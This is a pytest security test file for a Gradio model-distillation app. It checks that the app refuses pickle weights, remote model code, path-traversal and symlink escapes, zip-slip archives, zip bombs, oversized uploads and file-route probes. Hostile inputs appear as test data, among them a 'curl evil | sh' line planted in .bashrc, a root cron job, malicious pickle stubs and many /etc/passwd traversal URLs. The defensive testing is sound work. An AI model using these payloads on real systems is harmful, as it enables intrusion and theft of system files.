"""Attacks on the app and the core: each one is tried and must be refused with a clear message.

1. weights come from safetensors only (pickle files in a model folder, an upload or a zip are
   refused), and remote code never runs;
2. model names typed into the app reach only offline ids, Hugging Face ids and the allowed
   model folders (no ``/etc``, ``../../root``, ``~/.ssh`` or symlink escapes);
3. the Tatoeba folder field reaches only the allowed data folders;
4. a student zip is unpacked only if it is safe (no absolute or ``..`` paths, links, pickles,
   member floods or zip bombs), and a zip the app made round-trips;
5. uploads over the size limits or of the wrong type are refused by the handlers and by the
   running server, which keeps serving;
6. the running server's file route serves none of the server's own files.
"""

from __future__ import annotations

import contextlib
import http.client
import json
import os
import re
import shutil
import stat
import zipfile
from pathlib import Path

import numpy as np
import pytest

gr = pytest.importorskip("gradio")

import app  # noqa: E402
from tests.test_app import TEXT, _heatmap_names, _message, serve_app  # noqa: E402
from webapp import settings  # noqa: E402
from webapp.aligned import aligned_space  # noqa: E402
from webapp.compare import compare  # noqa: E402
from webapp.distill import prepare_run  # noqa: E402
from webapp.guards import (  # noqa: E402
    _shown,
    blocked_paths,
    check_data_dir,
    check_model_name,
)
from webapp.session import Visitor  # noqa: E402
from webapp.student_zip import load_student_zip, zip_student  # noqa: E402
from webapp.uploads import check_upload  # noqa: E402

ROOT = Path(app.__file__).resolve().parent
PICKLES = [".bin", ".pt", ".pth", ".pkl", ".ckpt"]


@pytest.fixture(autouse=True)
def _hermetic(tmp_path, monkeypatch, isolated_cache):
    """Visitors' folders in the test's folder, a fresh kd cache, and no allowed folders except
    the ones a test names (the repository's ../shared/data is replaced by an empty one)."""
    monkeypatch.setattr(settings, "WORK_ROOT", tmp_path / "visitors")
    monkeypatch.setattr(settings, "SHARED_DATA", tmp_path / "no-shared-data")
    monkeypatch.delenv(settings.MODEL_DIRS_ENV, raising=False)
    monkeypatch.delenv(settings.DATA_DIRS_ENV, raising=False)
    monkeypatch.chdir(ROOT)


def _copy_model(src: str, dest: Path) -> Path:
    shutil.copytree(src, dest)
    return dest


def _allow_models(monkeypatch, *folders: Path | str) -> None:
    monkeypatch.setenv(settings.MODEL_DIRS_ENV, os.pathsep.join(str(f) for f in folders))


def _tatoeba(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    en = ["the cat", "the dog runs", "hello world", "good morning", "thank you friend"]
    de = ["die katze", "der hund", "hallo", "gross", "klein und rot"]
    (folder / "tatoeba.deu-eng.eng").write_text("".join(f"{s}\n" for s in en), encoding="utf-8")
    (folder / "tatoeba.deu-eng.deu").write_text("".join(f"{s}\n" for s in de), encoding="utf-8")
    return folder


# ---- 1. safetensors only; no remote code -------------------------------------------------------
@pytest.mark.parametrize("where", ["pytorch_model.bin", "2_Dense/pytorch_model.bin", "x/y.ckpt"])
def test_pickle_files_in_a_model_folder_are_refused(tmp_path, tiny_student, where):
    from kd.models.encoder import Encoder, resolve_model

    model = _copy_model(tiny_student, tmp_path / "model")
    (model / where).parent.mkdir(parents=True, exist_ok=True)
    (model / where).write_bytes(b"\x80\x04cos\nsystem\n")  # the start of a malicious pickle
    for load in (resolve_model, Encoder.load):
        with pytest.raises(ValueError, match="pickle files can run code") as err:
            load(str(model))
        assert Path(where).name in str(err.value)


@pytest.mark.parametrize("suffix", PICKLES)
def test_pickle_uploads_are_refused(tmp_path, suffix):
    file = tmp_path / f"weights{suffix}"
    file.write_bytes(b"\x80\x04.")
    with pytest.raises(ValueError, match="pickle file is never loaded") as err:
        check_upload(str(file))
    assert "unpickling can run code" in str(err.value)
    with pytest.raises(ValueError, match="pickle"):
        check_upload(str(file), suffixes=(".zip", suffix))  # even where the suffix is listed


def test_trust_remote_code_is_never_enabled():
    files = [*ROOT.glob("kd/**/*.py"), *ROOT.glob("webapp/*.py"), ROOT / "app.py"]
    uses = []
    for path in files:
        for line in path.read_text(encoding="utf-8").splitlines():
            if "trust_remote_code" in line:
                uses.append((path.name, line.strip()))
                assert re.search(r"trust_remote_code\s*=\s*False", line), (path, line)
    assert uses, "the loader should say trust_remote_code=False explicitly"


def test_remote_code_in_a_model_folder_does_not_run(tmp_path, tiny_teacher):
    from kd.models.encoder import Encoder

    model = _copy_model(tiny_teacher, tmp_path / "model")
    marker = tmp_path / "pwned"
    (model / "evil.py").write_text(
        f"open({str(marker)!r}, 'w').write('ran')\n"
        "from transformers import BertModel\n\nclass EvilModel(BertModel):\n    pass\n",
        encoding="utf-8",
    )
    config = json.loads((model / "config.json").read_text("utf-8"))
    config["auto_map"] = {"AutoModel": "evil.EvilModel", "AutoConfig": "evil.EvilConfig"}
    (model / "config.json").write_text(json.dumps(config), encoding="utf-8")
    with contextlib.suppress(ValueError):  # loading the plain BERT instead is fine too
        Encoder.load(str(model))
    assert not marker.exists(), "the model folder's own Python code ran"


# ---- 2. model names typed into the app ---------------------------------------------------------
ESCAPES = [
    "/etc",
    "/",
    "/etc/passwd",
    "../../root",
    "../../../../../../etc",
    "~/.ssh",
    "~",
    ".",
    "..",
    "assets/pairs",  # shaped like a Hub id, but a folder of the server
    "owner/../../etc",
    "owner/name/../../../etc",
    "a\\..\\..\\etc",
    "C:\\Windows",
    "%2e%2e/%2e%2e/etc",
    "file:///etc/passwd",
    "x/y z",
    "/etc/passwd\0.safetensors",
]


@pytest.mark.parametrize("name", ESCAPES)
def test_model_names_outside_the_allowed_folders_are_refused(
    tmp_path, monkeypatch, tiny_teacher, name
):
    _allow_models(monkeypatch, Path(tiny_teacher).parent)
    with pytest.raises(ValueError, match="unknown model") as err:
        check_model_name(name, Visitor())
    message = str(err.value)
    assert "not a folder inside the ones this server loads models from" in message
    assert settings.MODEL_DIRS_ENV in message and "Offline models" in message


def test_model_refusal_reaches_the_visitor_from_every_tab(tmp_path, monkeypatch, tiny_teacher):
    _allow_models(monkeypatch, Path(tiny_teacher).parent)
    with pytest.raises(gr.Error, match="unknown model '/etc'"):
        compare(TEXT, "/etc", tiny_teacher, None)
    with pytest.raises(gr.Error, match="unknown model '~/.ssh'"):
        aligned_space(
            settings.SOURCES[0], "", None, "de", 4, "pca", ["teacher"], "~/.ssh", "", None
        )
    form = [tiny_teacher, "../../root", ["fr"], [], 10, 0, 1, 8, 1e-3, "mse", 0, 0, 1]
    form += ["ridge", None]
    with pytest.raises(gr.Error, match="unknown model '../../root'"):
        prepare_run(*form, Visitor())
    # The model cache checks every name from the page too: a tab that forgets is still safe.
    from webapp.model_cache import get_encoder

    with pytest.raises(ValueError, match="unknown model '/etc'"):
        get_encoder("/etc")
    search = pytest.importorskip("webapp.search")
    with pytest.raises(gr.Error, match="unknown model '/etc'"):
        search.search("hello", 3, search.ALL_LANGS, "/etc", tiny_teacher, None)


def test_symlinks_out_of_a_model_folder_are_refused(tmp_path, monkeypatch, tiny_teacher):
    root = tmp_path / "models"
    root.mkdir()
    outside = _copy_model(tiny_teacher, tmp_path / "outside" / "model")  # a real model
    inside = _copy_model(tiny_teacher, root / "real")
    (root / "escape").symlink_to(outside, target_is_directory=True)
    (root / "etc").symlink_to("/etc", target_is_directory=True)
    (root / "alias").symlink_to(inside, target_is_directory=True)
    _allow_models(monkeypatch, root)
    for name in (root / "escape", root / "etc", root / "real" / ".." / ".." / "outside"):
        with pytest.raises(ValueError, match="unknown model"):
            check_model_name(str(name))
    # Stays inside; named by where it leads (one canonical name per folder: issue 16).
    assert check_model_name(str(root / "alias")) == str(inside)
    with pytest.raises(ValueError, match="not a file"):
        check_model_name(str(inside / "config.json"))
    with pytest.raises(ValueError, match="no such folder"):
        check_model_name(str(root / "missing"))


def test_allowed_model_names(tmp_path, monkeypatch, tiny_teacher, isolated_cache):
    import webapp.guards

    visitor = Visitor()
    # Hub ids pass where the server downloads (KD_HUB_MODELS) and the repository is small.
    monkeypatch.setattr(settings, "HUB_MODELS", True)
    monkeypatch.setattr("kd.data.sources.hub_reachable", lambda *a, **k: True)
    monkeypatch.setattr(webapp.guards, "hub_repo_bytes", lambda name: 1000)
    for name in (
        settings.DEFAULT_TEACHER,
        settings.DEFAULT_STUDENT,
        "someone/some-model",
        "org/name.v2_final-1",
    ):
        assert check_model_name(f" {name} ", visitor) == name
    # A folder in kd's cache, in $KD_MODEL_DIRS, and in the visitor's own work folder.
    cached = _copy_model(tiny_teacher, isolated_cache / "models" / "mine")
    assert check_model_name(str(cached)) == str(cached)
    with pytest.raises(ValueError, match="unknown model"):
        check_model_name(tiny_teacher)  # the rule is not weakened for tests
    _allow_models(monkeypatch, Path(tiny_teacher).parent)
    assert check_model_name(tiny_teacher) == tiny_teacher
    own = _copy_model(tiny_teacher, visitor.new_run_dir())
    with pytest.raises(ValueError, match="unknown model"):
        check_model_name(str(own), Visitor())  # somebody else's folder
    assert check_model_name(str(own), visitor) == str(own)
    with pytest.raises(ValueError, match="no model chosen"):
        check_model_name("  ")


def test_allowed_model_folders_must_hold_safetensors_weights(tmp_path, monkeypatch, tiny_teacher):
    # The page's one check of a name applies the rule loading applies (check_local_dir).
    root = tmp_path / "models"
    (root / "empty").mkdir(parents=True)
    pickled = _copy_model(tiny_teacher, root / "pickled")
    (pickled / "2_Dense").mkdir()
    (pickled / "2_Dense" / "pytorch_model.bin").write_bytes(b"\x80\x04cos\nsystem\n")
    (root / "alias").symlink_to(pickled, target_is_directory=True)
    _allow_models(monkeypatch, root)
    with pytest.raises(ValueError, match="no model weights"):
        check_model_name(str(root / "empty"))
    with pytest.raises(ValueError, match="pickle files can run code") as err:
        check_model_name(str(root / "alias"), Visitor())
    assert str(err.value).startswith(f"{root / 'alias'}: ")  # the folder as it was typed


# ---- 3. the Tatoeba folder ---------------------------------------------------------------------
def test_tatoeba_folders_outside_the_data_folders_are_refused(tmp_path, monkeypatch):
    shared = _tatoeba(tmp_path / "shared" / "data" / "tatoeba-dev")
    extra = tmp_path / "extra"
    extra.mkdir()
    monkeypatch.setattr(settings, "SHARED_DATA", shared.parent)
    monkeypatch.setenv(settings.DATA_DIRS_ENV, str(extra))
    outside = _tatoeba(tmp_path / "outside")
    (extra / "escape").symlink_to(outside, target_is_directory=True)
    (extra / "etc").symlink_to("/etc", target_is_directory=True)
    attacks = [
        "/etc",
        "/",
        "../../root",
        "..",
        "~/.ssh",
        "~",
        str(outside),
        f"{shared}/../../../outside",
        str(extra / "escape"),
        str(extra / "etc"),
        "..%2f..%2fetc",
        "a\\..\\..\\etc",
    ]
    for text in attacks:
        with pytest.raises(ValueError, match="outside the folders this server reads data") as err:
            check_data_dir(text)
        message = str(err.value)
        # Folders as the page names them (relative to the repository's parent where they lie
        # below it, as pytest's tmp_path does when the clone is in /tmp).
        assert _shown(shared.parent.resolve()) in message, message
        assert _shown(extra.resolve()) in message, message
        assert settings.DATA_DIRS_ENV in message
    # A tatoeba file inside an allowed folder that links out is refused too.
    linked = extra / "linked"
    linked.mkdir()
    (linked / "tatoeba.deu-eng.deu").symlink_to("/etc/passwd")
    (linked / "tatoeba.deu-eng.eng").write_text("root\n", encoding="utf-8")
    with pytest.raises(ValueError, match="is a link that leads outside"):
        check_data_dir(str(linked))
    assert check_data_dir(str(shared)) == shared.resolve()
    assert check_data_dir(f"{extra}/../shared/data/tatoeba-dev") == shared.resolve()


def test_tatoeba_refusals_and_a_good_folder_in_the_tab(
    tmp_path, monkeypatch, tiny_teacher, tiny_student
):
    _allow_models(monkeypatch, Path(tiny_teacher).parent, Path(tiny_student).parent)
    data = tmp_path / "data"
    good = _tatoeba(data / "tatoeba")
    monkeypatch.setenv(settings.DATA_DIRS_ENV, str(data))

    def draw(folder: str):
        return aligned_space(
            settings.SOURCES[1],
            folder,
            None,
            "de",
            5,
            "pca",
            ["teacher", "untrained"],
            tiny_teacher,
            tiny_student,
            None,
        )

    for folder in ("/etc", "../../root", "~/.ssh"):
        with pytest.raises(gr.Error, match="outside the folders") as err:
            draw(folder)
        assert _shown(data.resolve()) in _message(err)
    with pytest.raises(gr.Error, match="inside:"):
        draw("")
    _, numbers, table, _ = draw(str(good))
    assert "10 sentences per model" in numbers and list(table["lang"]) == ["de"]


# ---- 4. student zips ---------------------------------------------------------------------------
def _zip(path: Path, members: dict[str, bytes], **kw) -> Path:
    with zipfile.ZipFile(path, "w", **kw) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return path


def _symlink_zip(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("modules.json", "[]")
        link = zipfile.ZipInfo("model.safetensors")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        zf.writestr(link, "/etc/passwd")
    return path


def _bomb(path: Path, size: int) -> Path:
    chunk = b"\0" * (1 << 20)
    with (
        zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf,
        zf.open("model.safetensors", "w", force_zip64=True) as fh,
    ):
        for _ in range(size // len(chunk)):
            fh.write(chunk)
    return path


def _lying_zip(path: Path) -> Path:
    """A member whose headers say 10 bytes while it inflates to 1 MB."""
    _zip(path, {"big.txt": b"a" * (1 << 20)}, compression=zipfile.ZIP_DEFLATED)
    raw = bytearray(path.read_bytes())
    real = (1 << 20).to_bytes(4, "little")
    for start in [m.start() for m in re.finditer(re.escape(real), bytes(raw))]:
        raw[start : start + 4] = (10).to_bytes(4, "little")
    path.write_bytes(bytes(raw))
    return path


def _not_a_zip(path: Path) -> Path:
    path.write_bytes(b"PK\x03\x04 this is not a zip")
    return path


def _duplicate_zip(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("model.safetensors", b"1")
        with pytest.warns(UserWarning):
            zf.writestr("model.safetensors", b"2")
    return path


ZIP_ATTACKS = {
    "absolute": (lambda p: _zip(p, {"/etc/cron.d/job": b"* * * * * root sh"}), "absolute path"),
    "dotdot": (lambda p: _zip(p, {"../../.bashrc": b"curl evil | sh"}), "climbs out"),
    "nested dotdot": (lambda p: _zip(p, {"a/b/../../../x": b"x"}), "climbs out"),
    "backslash": (lambda p: _zip(p, {"..\\..\\x": b"x"}), "backslash"),
    "symlink": (_symlink_zip, "symbolic link"),
    "pickle": (
        lambda p: _zip(p, {"modules.json": b"[]", "2_Dense/pytorch_model.bin": b"\x80\x04."}),
        "pickle file",
    ),
    "duplicate": (_duplicate_zip, "appears twice"),
    "many members": (
        lambda p: _zip(p, {f"f{i}.txt": b"" for i in range(settings.MAX_STUDENT_ZIP_MEMBERS + 1)}),
        "members; at most",
    ),
    "not a zip": (_not_a_zip, "not a readable"),
}


@pytest.mark.parametrize("attack", list(ZIP_ATTACKS))
def test_unsafe_zips_are_refused_and_leave_nothing(tmp_path, attack):
    from kd.models.archive import safe_extract

    make, expected = ZIP_ATTACKS[attack]
    archive = make(tmp_path / "student.zip")
    dest = tmp_path / "out"
    with pytest.raises(ValueError, match=expected) as err:
        safe_extract(archive, dest, max_members=settings.MAX_STUDENT_ZIP_MEMBERS)
    assert "student.zip" in str(err.value)
    assert not dest.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["student.zip"]  # no half-unpacked dir
    assert not (tmp_path.parent / ".bashrc").exists()


def test_zip_bombs_are_refused_before_and_while_unpacking(tmp_path):
    from kd.models.archive import safe_extract

    bomb = _bomb(tmp_path / "bomb.zip", 64 << 20)
    assert bomb.stat().st_size < 1 << 20  # 64 MB of zeros in well under 1 MB
    with pytest.raises(ValueError, match="unpacks to 64 MB; the limit is 8 MB"):
        safe_extract(bomb, tmp_path / "out", max_bytes=8 << 20)
    assert not (tmp_path / "out").exists()
    liar = _lying_zip(tmp_path / "liar.zip")
    with pytest.raises(ValueError, match="liar.zip"):
        safe_extract(liar, tmp_path / "out2", max_bytes=1000)
    assert not (tmp_path / "out2").exists()


def _student_zip(tmp_path: Path, tiny_student: str) -> Path:
    """A zip made by the app's own ``zip_student``, as the Distill tab offers it."""
    folder = _copy_model(tiny_student, tmp_path / "made" / "run-1")
    return Path(zip_student(folder))


def test_a_student_zip_round_trips_through_the_handler(
    tmp_path, monkeypatch, tiny_teacher, tiny_student
):
    from kd.models.encoder import Encoder
    from viz.metrics import cosine_matrix

    _allow_models(monkeypatch, Path(tiny_teacher).parent, Path(tiny_student).parent)
    archive = _student_zip(tmp_path, tiny_student)
    visitor = Visitor()
    status, same = load_student_zip(str(archive), visitor)
    assert same is visitor and "Student loaded" in status and "32-d" in status
    assert str(tmp_path) not in status
    assert Path(visitor.student_dir).is_relative_to(visitor.workdir)
    fig, _ = compare(TEXT, tiny_teacher, tiny_student, visitor)
    assert [t.name for t in fig.data][-1] == "student, distilled"
    own = Encoder.load(tiny_student).encode(TEXT.splitlines())
    assert np.allclose(np.asarray(fig.data[-1].z, dtype=float), cosine_matrix(own), atol=1e-3)
    fig, _ = compare(TEXT, tiny_teacher, tiny_student, Visitor())
    assert "student, distilled" not in [t.name for t in fig.data]

    # A refused zip keeps the student the visitor has.
    before = visitor.student_dir
    bad = _zip(tmp_path / "bad.zip", {"../x": b"x"})
    with pytest.raises(gr.Error, match="climbs out"):
        load_student_zip(str(bad), visitor)
    assert visitor.student_dir == before and Path(before).is_dir()
    # A second good zip replaces the first on disk.
    load_student_zip(str(archive), visitor)
    assert visitor.student_dir != before and not Path(before).exists()


def test_student_zip_refusals_in_the_handler(tmp_path, monkeypatch, tiny_student):
    archive = _student_zip(tmp_path, tiny_student)
    text = tmp_path / "pairs.tsv"
    text.write_text("en\tfr\nthe cat\tle chat\n", encoding="utf-8")
    empty = _zip(tmp_path / "empty.zip", {"README.md": b"hello"})
    broken = _zip(
        tmp_path / "broken.zip",
        {"modules.json": (Path(tiny_student) / "modules.json").read_bytes(), "x.json": b"{"},
    )
    cases = [
        (None, "no file uploaded"),
        (str(text), "unknown file type; upload the .zip"),
        (str(_zip(tmp_path / "p.zip", {"model.pt": b"\x80"})), "pickle"),
        (str(empty), "no kd_delta.json or modules.json"),
        (str(broken), "the zip: no model weights"),
    ]
    for path, expected in cases:
        visitor = Visitor()
        with pytest.raises(gr.Error) as err:
            load_student_zip(path, visitor)
        assert expected in _message(err), _message(err)
        assert visitor.student_dir is None
        assert str(settings.WORK_ROOT) not in _message(err), _message(err)
    monkeypatch.setattr(settings, "MAX_STUDENT_ZIP_BYTES", archive.stat().st_size - 1)
    with pytest.raises(gr.Error, match="MB; the limit is"):
        load_student_zip(str(archive), Visitor())
    monkeypatch.setattr(settings, "MAX_STUDENT_ZIP_BYTES", 600 << 20)
    monkeypatch.setattr(settings, "MAX_STUDENT_UNZIPPED_BYTES", 1000)
    with pytest.raises(gr.Error, match="unpacks to"):
        load_student_zip(str(archive), Visitor())
    busy = Visitor(training=True)
    with pytest.raises(gr.Error, match="still running"):
        load_student_zip(str(archive), busy)


# ---- through a running server (5 and 6) --------------------------------------------------------
def _get(port: int, raw_path: str) -> tuple[int, bytes]:
    """GET a path exactly as written (no client-side normalisation of ``..`` or ``%2F``)."""
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        conn.request("GET", raw_path)
        response = conn.getresponse()
        return response.status, response.read()
    finally:
        conn.close()


def test_uploads_over_the_limits_or_of_the_wrong_type_are_refused_by_the_server(
    tmp_path, monkeypatch, tiny_teacher, tiny_student
):
    import httpx
    from gradio_client import Client, handle_file

    _allow_models(monkeypatch, Path(tiny_teacher).parent, Path(tiny_student).parent)
    big = tmp_path / "big.tsv"
    big.write_bytes(b"en\tfr\n" + b"the cat\tle chat\n" * (settings.MAX_UPLOAD_BYTES // 16 + 1))
    exe = tmp_path / "setup.exe"
    exe.write_bytes(b"MZ" + b"\0" * 100)
    pickle = tmp_path / "pytorch_model.bin"
    pickle.write_bytes(b"\x80\x04.")
    # The server's own cap (the student-zip size) made small for this test.
    cap = settings.MAX_UPLOAD_BYTES + (1 << 20)
    monkeypatch.setattr(settings, "MAX_STUDENT_ZIP_BYTES", cap)
    with serve_app() as (_, url, _port):
        client = Client(url, verbose=False)

        def aligned(upload):
            return client.predict(
                settings.SOURCES[2],
                "",
                upload,
                "fr",
                4,
                "pca",
                ["teacher"],
                tiny_teacher,
                tiny_student,
                api_name="/aligned",
            )

        with pytest.raises(Exception, match="limit is 5 MB"):
            aligned(handle_file(str(big)))
        for wrong in (exe, pickle):
            with pytest.raises(Exception, match="(?i)invalid file type|unknown file type"):
                aligned(handle_file(str(wrong)))
        with pytest.raises(Exception, match="(?i)invalid file type|pickle"):
            client.predict(handle_file(str(pickle)), api_name="/load_student")
        # Above the server's cap the upload itself is refused, before any handler runs.
        response = httpx.post(
            f"{url}gradio_api/upload",
            files={"files": ("big.zip", b"\0" * (cap + 1), "application/zip")},
            timeout=60,
        )
        assert response.status_code == 413, response.text
        # A file path that was never uploaded cannot be slipped in as a file value.
        event = httpx.post(
            f"{url}gradio_api/call/aligned",
            json={
                "data": [
                    settings.SOURCES[2],
                    "",
                    {"path": "/etc/passwd", "meta": {"_type": "gradio.FileData"}},
                    "fr",
                    4,
                    "pca",
                    ["teacher"],
                    tiny_teacher,
                    tiny_student,
                ]
            },
            timeout=30,
        ).json()["event_id"]
        stream = httpx.get(f"{url}gradio_api/call/aligned/{event}", timeout=60).text
        assert "event: error" in stream and "root:" not in stream
        # The server keeps serving.
        plot, table = client.predict(TEXT, tiny_teacher, tiny_student, api_name="/compare")
        assert _heatmap_names(plot) == ["teacher", "student, untrained"]


def test_a_student_zip_round_trips_through_the_server(
    tmp_path, monkeypatch, tiny_teacher, tiny_student
):
    from gradio_client import Client, handle_file

    _allow_models(monkeypatch, Path(tiny_teacher).parent, Path(tiny_student).parent)
    archive = _student_zip(tmp_path, tiny_student)
    with serve_app() as (_, url, _port):
        owner, stranger = Client(url, verbose=False), Client(url, verbose=False)
        status = owner.predict(handle_file(str(archive)), api_name="/load_student")
        assert "Student loaded" in status
        plot, _ = owner.predict(TEXT, tiny_teacher, tiny_student, api_name="/compare")
        assert _heatmap_names(plot)[-1] == "student, distilled"
        plot, _ = stranger.predict(TEXT, tiny_teacher, tiny_student, api_name="/compare")
        assert "student, distilled" not in _heatmap_names(plot)
        with pytest.raises(Exception, match="climbs out"):
            stranger.predict(
                handle_file(str(_zip(tmp_path / "evil.zip", {"../x": b"x"}))),
                api_name="/load_student",
            )
        with pytest.raises(Exception, match="unknown model '/etc'"):
            stranger.predict(TEXT, "/etc", tiny_student, api_name="/compare")


def test_the_server_serves_none_of_its_own_files(tmp_path, monkeypatch, isolated_cache):
    from gradio.utils import get_upload_folder

    secret = isolated_cache / "models" / "secret.json"
    secret.parent.mkdir(parents=True)
    secret.write_text('{"token": "kd-cache-secret"}', encoding="utf-8")
    work = settings.WORK_ROOT / "visitor-x"
    work.mkdir(parents=True)
    (work / "kd-student-run-1.zip").write_bytes(b"PK student of another visitor")
    upload_dir = Path(get_upload_folder())
    upload_dir.mkdir(parents=True, exist_ok=True)
    link = upload_dir / f"kd-test-link-{os.getpid()}"
    link.symlink_to("/etc/passwd")
    # An operator's allowlist must not expose what the app blocks.
    served_dir = tmp_path / "public"
    served_dir.mkdir()
    (served_dir / "ok.txt").write_text("public file", encoding="utf-8")
    monkeypatch.setenv("GRADIO_ALLOWED_PATHS", f"{served_dir},{isolated_cache}")
    assert str(isolated_cache.resolve()) in blocked_paths()
    repo = ROOT.as_posix()
    attempts = [
        "/gradio_api/file=/etc/passwd",
        "/file=/etc/passwd",
        "/gradio_api/file=%2Fetc%2Fpasswd",
        "/gradio_api/file=%252Fetc%252Fpasswd",
        "/gradio_api/file=../../../../../../etc/passwd",
        "/gradio_api/file=..%2F..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd",
        "/gradio_api/file=%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        f"/gradio_api/file={upload_dir}/../../../etc/passwd",
        f"/gradio_api/file={upload_dir}/..%2F..%2F..%2Fetc%2Fpasswd",
        f"/gradio_api/file={link}",
        "/gradio_api/file=/proc/self/environ",
        "/gradio_api/file=file:///etc/passwd",
        "/static/../../../../../etc/passwd",
        "/assets/..%2F..%2F..%2F..%2Fetc%2Fpasswd",
        "/..%2F..%2F..%2F..%2Fetc%2Fpasswd",
        f"/gradio_api/file={repo}/pyproject.toml",
        f"/file={repo}/pyproject.toml",
        "/gradio_api/file=pyproject.toml",
        "/gradio_api/file=app.py",
        f"/gradio_api/file={repo}/kd/../pyproject.toml",
        f"/gradio_api/file={secret}",
        f"/gradio_api/file={secret.as_posix().replace('/', '%2F')}",
        f"/gradio_api/file={work}/kd-student-run-1.zip",
    ]
    secrets = [b"root:", b"[project]", b"kd-cache-secret", b"PATH=", b"another visitor"]
    try:
        with serve_app() as (_, _url, port):
            status, body = _get(port, f"/gradio_api/file={served_dir}/ok.txt")
            assert status == 200 and body == b"public file"  # the probe can see a served file
            for path in attempts:
                status, body = _get(port, path)
                assert status in (400, 403, 404), (path, status, body[:200])
                assert not any(s in body for s in secrets), (path, body[:200])
            assert _get(port, "/")[0] == 200  # still serving
    finally:
        link.unlink()
